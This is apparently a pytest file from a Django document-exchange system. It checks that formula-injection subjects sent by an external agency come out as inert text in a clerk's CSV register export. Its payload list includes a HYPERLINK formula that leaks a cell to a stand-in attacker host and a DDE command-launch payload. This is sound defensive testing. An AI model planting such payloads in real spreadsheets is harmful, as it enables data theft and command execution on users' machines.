"""Formula injection: subjects an external sender plants through the exchange API reach every
clerk's spreadsheet only as text (issue #19)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from docflow.core.csv_safe import csv_cell
from docflow.core.scoping import agency_scope, cross_agency
from docflow.documents.models import Register
from docflow.routing.handling import incoming_accept
from docflow.routing.models import IncomingDocument
from tests.exchange.conftest import envelope

pytestmark = pytest.mark.django_db
PLANTED = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm để xem văn bản")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\tcăn lề", "\r=1+1",
]


@pytest.mark.parametrize("subject", PLANTED)
def test_a_subject_planted_by_an_external_sender_is_text_in_the_clerks_register_export(
    communes, external, client_for, subject,
):
    commune = communes[0]
    body = envelope(external.agency.code, [commune.agency.code], subject=subject, notation="=1+1")
    sent = external.api.post("/api/v1/exchange/documents/", body, format="json", HTTP_IDEMPOTENCY_KEY="csv-1")
    assert sent.status_code == 201, sent.content
    with cross_agency("system"):
        copy = IncomingDocument.objects.get(agency=commune.agency)
    with agency_scope(commune.agency):
        incoming_accept(membership=commune.clerk, incoming_id=copy.pk)
        register = Register.objects.get(direction="incoming", series="general")

    exported = client_for(commune.clerk).get(
        f"/api/v1/registers/{register.pk}/book/?year={date.today().year}&format=csv")
    assert exported.status_code == 200
    table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in table[1:] for cell in row]
    assert csv_cell(subject.strip()) in cells, cells  # the API trims the ends; the rest is text
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_numbers_and_ordinary_text_are_left_as_they_are():
    assert csv_cell(-5) == -5 and csv_cell(3.5) == 3.5 and csv_cell(None) is None
    assert csv_cell("Về việc rà soát") == "Về việc rà soát"
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("") == ""
